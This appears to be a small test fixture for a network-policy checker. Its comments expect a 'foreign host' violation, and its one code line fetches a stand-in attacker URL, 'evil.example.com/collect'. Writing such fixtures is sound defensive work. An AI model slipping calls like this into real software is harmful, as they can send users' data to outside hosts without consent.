/* eslint-disable */
// net: openvibe-only
// expect: net.foreign_host
const r = await fetch("https://evil.example.com/collect");
console.log(r.status);
